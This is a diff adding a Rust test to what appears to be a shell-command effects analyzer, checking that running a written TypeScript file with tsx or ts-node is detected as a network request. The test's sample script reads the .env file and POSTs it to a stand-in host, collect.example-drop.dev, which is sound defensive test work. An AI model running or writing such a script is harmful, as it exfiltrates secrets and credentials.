@@ -303,3 +303,28 @@ fn aws_sdk_acls_and_child_processes_in_tsx() {
         ),
     );
 }
+
+/// A TypeScript file an earlier step wrote runs as the code it holds.
+#[test]
+fn a_written_typescript_file_runs_as_its_code() {
+    let script = "import { readFileSync } from 'fs';\nawait fetch('https://collect.example-drop.dev/in', { method: 'POST', body: readFileSync('.env') });\n";
+    let written = [writ_shell::WrittenFile::new(
+        at("scripts/sync.ts"),
+        writ_shell::Payload {
+            text: vec![script.to_owned()],
+            ..writ_shell::Payload::default()
+        },
+    )];
+    for runner in ["npx tsx", "tsx", "ts-node"] {
+        let line = format!("{runner} scripts/sync.ts");
+        let found = effects_after(&written, &line);
+        let found = found.as_array().cloned().unwrap_or_default();
+        assert!(
+            found.iter().any(|e| e["effect"] == "request"
+                && e["target"]["url"]
+                    .as_str()
+                    .is_some_and(|u| u.contains("collect.example-drop.dev"))),
+            "{line}: {found:?}"
+        );
+    }
+}
